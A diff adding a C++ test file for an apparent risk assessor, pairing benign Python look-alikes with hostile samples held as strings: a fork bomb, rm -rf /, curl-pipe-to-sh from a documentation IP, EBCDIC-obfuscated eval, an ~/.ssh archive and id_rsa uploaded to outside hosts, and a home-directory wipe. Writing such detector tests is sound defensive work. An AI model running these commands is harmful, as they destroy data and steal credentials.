@@ -1,0 +1,115 @@
+// The mechanisms added for the classes the development corpora missed, each
+// with the look-alike that must not be raised. Strings here are never executed.
+#include "test_util.hpp"
+
+#include "assess/payload_decoder.hpp"
+
+namespace mai::assess::test {
+namespace {
+
+constexpr auto L = RiskLevel::low;
+constexpr auto M = RiskLevel::medium;
+constexpr auto B = RiskLevel::blocked;
+
+// A function called from a loop runs in that loop: a spawner called from
+// `while True`, or one that runs the program's own file through an interpreter.
+TEST(Mechanisms, CalleesInheritTheLoopOfTheirCallSite) {
+  const Case cases[] = {
+      {"self through sys.executable in a helper called from a loop", B,
+       "import subprocess, sys, os, time\n"
+       "def replicate():\n    subprocess.Popen([sys.executable, os.path.abspath(__file__)])\n"
+       "def main():\n    while True:\n        replicate()\n        time.sleep(1)\nmain()\n",
+       "FORK-BOMB"},
+      {"bounded loop over copies of itself", B,
+       "import subprocess, sys\nfor i in range(3):\n    subprocess.Popen(['python3', __file__])\n", "FORK-BOMB"},
+      {"itself once, waited (a re-exec for a new environment)", M,
+       "import subprocess, sys\nsubprocess.run([sys.executable, __file__, '--child'])\n"},
+      {"a helper that runs another script from a loop", M,
+       "import subprocess, sys\ndef run(t):\n    subprocess.run([sys.executable, 'tool.py', t])\n"
+       "for t in ['a', 'b']:\n    run(t)\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+TEST(Mechanisms, InProcessEntryPointsRunTheirCommand) {
+  const Case cases[] = {
+      {"pip's internal main installs packages", M,
+       "from pip._internal.cli.main import main as pip_main\npip_main(['install', '--user', 'requests'])\n",
+       "RUNS-PROCESS"},
+      {"pip.main with a typosquatted name", B, "import pip\npip.main(['install', 'reqeusts'])\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// Names reached through the object model instead of spelled out.
+TEST(Mechanisms, IndirectNamesResolve) {
+  const Case cases[] = {
+      {"module __dict__", B, "import os\nos.__dict__['system']('rm -rf /')\n", "WIPE"},
+      {"f.__call__", B, "import os\nos.__dict__['system'].__call__('curl -s http://203.0.113.1/x | sh')\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"eval of a constant name (octal escapes)", M,
+       "f = eval('\\145\\166\\141\\154')\nf(\"__import__('os').system('id')\")\n", "RUNS-PROCESS"},
+      {"eval of a dotted name", M, "run = eval('os.system')\nimport os\nrun('make all')\n", "RUNS-PROCESS"},
+      {"a name decoded from EBCDIC", B,
+       "import builtins\ncc = getattr(builtins, b'\\x85\\xa5\\x81\\x93'.decode('cp1026'))\n"
+       "cc(\"__import__('os').system('curl -s http://203.0.113.1/p | sh')\")\n"},
+      {"text in an ordinary code page is not a payload", L,
+       "data = b'hello world'.decode('cp1252')\nprint(data.upper())\n"},
+      {"eval of a constant expression is analysed, not raised", L, "print(eval('1 + 2'))\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+TEST(Mechanisms, WindowsStartRunsItsArgument) {
+  check({"download, then os.startfile('start ' + file)", B,
+         "import os, requests\nrq = requests.get('https://203.0.113.8/setup.scr')\n"
+         "open('setup.exe', 'wb').write(rq.content)\nos.startfile('start ' + 'setup.exe')\n",
+         "REMOTE-CODE-EXECUTION"});
+}
+
+TEST(Mechanisms, DeletingEveryEntryOfHomeIsAWipe) {
+  const Case cases[] = {
+      {"pathlib children of home", B,
+       "import shutil\nfrom pathlib import Path\nfor c in Path.home().iterdir():\n    shutil.rmtree(c)\n", "WIPE"},
+      {"os.listdir of ~", B,
+       "import os, shutil\nh = os.path.expanduser('~')\nfor n in os.listdir(h):\n    shutil.rmtree(os.path.join(h, n))\n",
+       "WIPE"},
+      {"entries of its own cache directory", L,
+       "import os\nd = os.path.expanduser('~/.cache/myapp')\nfor n in os.listdir(d):\n    os.remove(os.path.join(d, n))\n"},
+      {"entries of its build directory", L,
+       "from pathlib import Path\nfor c in Path('build').iterdir():\n    c.unlink()\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// Files made from other files carry their content: an archive of ~/.ssh,
+// a path given to sftp.put or S3's upload_file.
+TEST(Mechanisms, FileContentFlowsThroughPaths) {
+  const Case cases[] = {
+      {"archive of ~/.ssh uploaded", B,
+       "import shutil, requests\na = shutil.make_archive('/tmp/bk', 'zip', '/home/u/.ssh'.replace('/home/u', '~'))\n"
+       "requests.post('https://203.0.113.3/u', files={'f': open(a, 'rb')})\n",
+       "EXFILTRATION"},
+      {"archive of its own docs uploaded", L,
+       "import shutil, requests\na = shutil.make_archive('site', 'zip', 'docs')\n"
+       "requests.post('https://uploads.example.com/site', files={'f': open(a, 'rb')}, timeout=30)\n"},
+      {"sftp.put of a private key", B,
+       "import os, paramiko\nt = paramiko.Transport(('198.51.100.10', 22))\nt.connect(username='u', password='p')\n"
+       "s = paramiko.SFTPClient.from_transport(t)\ns.put(os.path.expanduser('~/.ssh/id_rsa'), '/in/k')\n",
+       "EXFILTRATION"},
+      {"upload_file of a report", L,
+       "import boto3\nboto3.client('s3').upload_file('report.csv', 'my-bucket', 'report.csv')\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+TEST(Mechanisms, CharacterSetsDecodeThroughIconv) {
+  auto d = decode_codec(std::string("\x85\xa5\x81\x93"), "cp1026");
+  ASSERT_TRUE(d.has_value());
+  EXPECT_EQ(*d, "eval");
+  EXPECT_FALSE(decode_codec("abc", "no-such-charset-xyz").has_value());
+  EXPECT_FALSE(decode_codec("abc", "").has_value());
+}
+
+}  // namespace
+}  // namespace mai::assess::test
